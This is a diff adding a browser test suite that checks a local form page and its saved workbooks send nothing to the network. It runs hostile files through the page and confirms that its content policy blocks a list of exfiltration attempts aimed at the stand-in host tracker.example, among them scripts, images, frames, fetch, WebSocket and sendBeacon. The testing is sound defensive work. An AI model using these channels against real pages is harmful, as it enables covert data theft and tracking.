@@ -1,0 +1,186 @@
+/** Nothing is sent anywhere: not while the form is filled in, not by files that mean harm, and the page's policy would not let it. */
+
+import assert from 'node:assert/strict';
+import { readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { after, before, test } from 'node:test';
+import { GOOD_QUARTER } from './cases/quarter.mjs';
+import { HOSTILE_TEXTS, hostileFiles } from './cases/hostile.mjs';
+import { Listener } from './support/listener.mjs';
+import { folder, formFile } from './support/office.mjs';
+import { pause } from './support/officer.mjs';
+import { inBrowsers } from './support/sitting.mjs';
+
+/** @typedef {import('./support/officer.mjs').Officer} Officer */
+
+const listener = new Listener();
+const port = await listener.listen();
+after(() => listener.close());
+
+/** The addresses that the page asks for. @param {Officer} officer */
+function requestsOf(officer) {
+  /** @type {string[]} */
+  const asked = [];
+  officer.page.on('request', (request) => asked.push(request.url()));
+  return asked;
+}
+
+/** All but the page itself, what it made, and the pictures of the browser's own error pages. @param {string[]} asked */
+const strange = (asked) => asked.filter((url) => !/^(file:\/\/\/|blob:null\/|blob:file:|data:)/.test(url));
+
+/** What went to the network, apart from what the makers of the browser hear from it by itself, with or without a page. */
+const heard = () => listener.heard.filter((line) => !/^\S+ (https?:\/\/)?[\w.-]+\.(google|googleapis|gstatic|mozilla|firefox)\.(com|org|net)\b/.test(line));
+
+/** Presses Escape until no dialog is open. @param {Officer} officer */
+async function leaveDialogs(officer) {
+  await pause(150);
+  for (let open = await officer.count('dialog[open]'); open > 0; open = await officer.count('dialog[open]')) {
+    await officer.press('Escape');
+    await pause(100);
+  }
+}
+
+inBrowsers('silence', (sitting) => {
+  before(() => { listener.heard.length = 0; });
+
+  test('a page without such a policy would have been heard', async () => {
+    const officer = await sitting.officer();
+    const page = join(folder('loud'), 'loud.html');
+    writeFileSync(page, '<!doctype html><img src="http://tracker.example/loud"><script src="http://127.0.0.1:9/loud"></script>');
+    await officer.open(page, { ready: false });
+    await pause(300);
+    assert.deepEqual(heard().filter((line) => line.includes('/loud')).length, 2, listener.heard.join(', '));
+    listener.heard.length = 0;
+  });
+
+  test('filling in, saving and opening files asks nobody anything, whatever the files hold', async () => {
+    const officer = await sitting.officer();
+    const asked = requestsOf(officer);
+    await officer.open(formFile());
+    for (const [place, typed] of GOOD_QUARTER.slice(0, 12)) await officer.write(place, typed);
+    await officer.pressButton('save');
+    await officer.answer('save');
+    const workbook = readFileSync(await officer.download('xuan-bac-2019-Q1.xlsx'));
+
+    for (const file of hostileFiles(folder('hostile'), workbook, await officer.value())) {
+      const before = await officer.value();
+      await officer.openFile(file);
+      await pause(300);
+      const words = await officer.text('dialog[open], .notice:not([hidden])');
+      assert.ok(words.length > 20, `${file}: something is said: ${words}`);
+      if (/bomb|entities|page|cut|nothing/.test(file)) assert.equal(await officer.value(), before, `${file} changes nothing`);
+      await leaveDialogs(officer);
+    }
+    await pause(500);
+    assert.equal(await officer.page.evaluate(() => /** @type {any} */ (globalThis).hacked ?? /** @type {any} */ ({}).hacked), undefined, 'nothing was executed');
+    assert.deepEqual(strange(asked), []);
+    assert.ok(asked.filter((url) => url.startsWith('file:')).length <= 1, 'of the disk only the page itself is read');
+    assert.deepEqual(heard(), [], 'the browser asked the network for nothing');
+  });
+
+  test('texts that look like markup or formulas stay texts', async () => {
+    const officer = await sitting.officer(formFile());
+    const asked = requestsOf(officer);
+    const json = hostileFiles(folder('hostile'), readFileSync(await goodWorkbook(officer)), await officer.value()).find((file) => file.endsWith('texts.json')) ?? '';
+    await officer.openFile(json);
+    await officer.answer('open');
+    await officer.told('Đã mở');
+    await leaveDialogs(officer);
+    const { note, ...texts } = HOSTILE_TEXTS;
+    for (const [place, text] of [...Object.entries(texts), ['B01/note', note]]) {
+      assert.equal(await officer.ask((form, which) => form.shadowRoot.querySelector(`:is(input, textarea)[data-place="${which}"]`).value, place), text, place);
+    }
+    await officer.pressButton('check');
+    await officer.page.evaluate(() => dispatchEvent(new Event('beforeprint')));
+    assert.equal(await officer.count('img, iframe, script, link, object, embed, style, a[href^="javascript"], a[href^="http"]'), 0);
+    assert.ok((await officer.text('.print')).includes(HOSTILE_TEXTS.signer), 'the printed copy shows it as text too');
+    await officer.page.evaluate(() => dispatchEvent(new Event('afterprint')));
+    assert.equal(await officer.page.evaluate(() => /** @type {any} */ (globalThis).hacked), undefined);
+    assert.deepEqual(strange(asked), []);
+    assert.deepEqual(heard(), []);
+  });
+
+  test('the policy refuses whatever a script inside the page could try', async () => {
+    const officer = await sitting.officer(formFile());
+    const asked = requestsOf(officer);
+    const refused = await officer.page.evaluate(tryEverything, 'http://tracker.example/seen');
+    for (const [what, ended] of Object.entries(refused)) {
+      // Firefox may refuse a frame without telling the page; that nothing was fetched is seen below.
+      assert.ok(ended === 'refused' || (what === 'a frame' && ended === 'nothing ran'), `${what}: ${ended}`);
+    }
+    await pause(500);
+    assert.deepEqual(strange(asked).filter((url) => !/^(http|ws):\/\/tracker\.example/.test(url)), []);
+    assert.deepEqual(heard(), [], 'nothing came through to the network');
+  });
+}, undefined, { proxy: port });
+
+/** A workbook to make hostile ones from. @param {Officer} officer */
+async function goodWorkbook(officer) {
+  await officer.write('B01', '12');
+  await officer.pressButton('save');
+  await officer.answer('save');
+  return officer.download('xuan-bac-2019-Q1.xlsx');
+}
+
+/** Runs inside the page, in a task of the page's own: what the driver runs directly is not under the policy. @param {string} url */
+function tryEverything(url) {
+  const g = /** @type {any} */ (globalThis);
+  const inserted = (/** @type {string} */ tag, /** @type {Record<string, string>} */ attributes, text = '') => () => {
+    const node = Object.assign(document.createElement(tag), attributes);
+    node.append(text);
+    document.body.append(node);
+  };
+  /** @type {Record<string, () => unknown>} */
+  const tries = {
+    'an inline script': inserted('script', {}, 'ran = 1'),
+    'a script from elsewhere': inserted('script', { src: url }),
+    'an inline style': inserted('style', {}, '* { color: red }'),
+    'a handler in an attribute': () => {
+      const node = document.createElement('p');
+      node.setAttribute('onclick', 'ran = 1');
+      document.body.append(node);
+      node.click();
+    },
+    'an image': inserted('img', { src: url }),
+    'a frame': inserted('iframe', { src: url }),
+    'an object': inserted('object', { data: url }),
+    'a style sheet from elsewhere': inserted('link', { rel: 'stylesheet', href: url }),
+    'a font': () => new FontFace('x', `url(${url})`).load().catch(() => {}),
+    'a form that is sent': () => {
+      const form = document.createElement('form');
+      form.action = url;
+      document.body.append(form);
+      form.submit();
+    },
+    fetch: () => fetch(url).catch(() => {}),
+    XMLHttpRequest: () => {
+      const request = new XMLHttpRequest();
+      request.open('GET', url);
+      request.send();
+    },
+    WebSocket: () => new WebSocket(url.replace('http', 'ws')),
+    EventSource: () => new EventSource(url),
+    sendBeacon: () => navigator.sendBeacon(url, 'x'),
+    worker: () => new Worker(URL.createObjectURL(new Blob(['ran = 1']))),
+    eval: () => (0, eval)('ran = 1'),
+    'new Function': () => new Function('ran = 1')(),
+  };
+  return new Promise((resolve) => setTimeout(async () => {
+    /** @type {Record<string, string>} */
+    const ended = {};
+    for (const [what, attempt] of Object.entries(tries)) {
+      let violated = false;
+      const note = () => { violated = true; };
+      document.addEventListener('securitypolicyviolation', note);
+      try {
+        attempt();
+      } catch {
+        // Some are refused by an exception, and by the event as well.
+      }
+      for (let waited = 0; waited < 40 && !violated; waited += 1) await new Promise((go) => setTimeout(go, 25));
+      document.removeEventListener('securitypolicyviolation', note);
+      ended[what] = g.ran !== undefined ? 'ran' : violated ? 'refused' : 'nothing ran';
+    }
+    resolve(ended);
+  }));
+}
